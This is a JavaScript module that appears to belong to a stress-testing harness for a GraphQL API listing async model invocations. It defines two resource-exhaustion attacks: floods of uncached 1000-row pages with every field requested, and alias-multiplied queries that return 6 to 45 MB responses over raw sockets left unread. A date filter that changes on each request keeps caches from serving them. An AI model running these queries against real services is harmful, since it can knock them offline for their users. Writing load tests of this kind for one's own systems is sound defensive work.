// Attacks with large responses.
import { nextUnique, toRawPost } from '../client.mjs';

const ROW = `id invocationArn modelArn clientRequestToken status rawStatus failureMessage submitTime
  lastModifiedTime endTime modelId region accountId durationSeconds
  outputDataConfig { ... on AsyncInvokeS3OutputDataConfig { s3Uri bucket keyPrefix kmsKeyId } }`;
/** The upstream recognizes the attacker by the year. */
const START_OF_YEAR = Date.parse('2002-01-01T00:00:00Z');

/** Selections for pages of 1000 rows, if each failure message has 2 kB. */
const LARGE_SELECTIONS = [
  `nodes { ${aliases(20, 'failureMessage')} }`,
  aliases(18, `nodes { ...R }`),
  `nodes { ${aliases(3, 'failureMessage')} }`,
];

function aliases(count, field) {
  return Array.from({ length: count }, (_, i) => `a${i}: ${field}`).join(' ');
}

/** Arguments of a page that no cache holds. */
function newPage() {
  const after = new Date(START_OF_YEAR + nextUnique() * 1000).toISOString();
  return `first: 1000, filter: { submitTimeAfter: "${after}" }`;
}

export const RESPONSE_ATTACKS = [
  {
    id: 'S2f',
    title: 'paid pages of 1000 rows with every field, uncached',
    connections: 30,
    run: ({ client, tokens: { reader } }) =>
      client.repeat(() =>
        client.post({ query: `{ asyncInvokes(${newPage()}) { nodes { ${ROW} } } }` }, reader),
      ),
  },
  {
    id: 'S4',
    title: 'responses of 45, 40 and 6 MB that are not read',
    connections: 40,
    failureMessage: 'The input cannot be read. '.repeat(80),
    run: ({ client, tokens: { reader } }) =>
      client.hold((connection) => {
        const selection = LARGE_SELECTIONS[connection % LARGE_SELECTIONS.length];
        const fragment = selection.includes('...R')
          ? `fragment R on AsyncInvokeSummary { ${ROW} }`
          : '';
        const query = `{ asyncInvokes(${newPage()}) { ${selection} } } ${fragment}`;
        const socket = client.openTcp({ reads: false });
        socket.write(toRawPost(reader, JSON.stringify({ query })));
        return socket;
      }),
  },
];
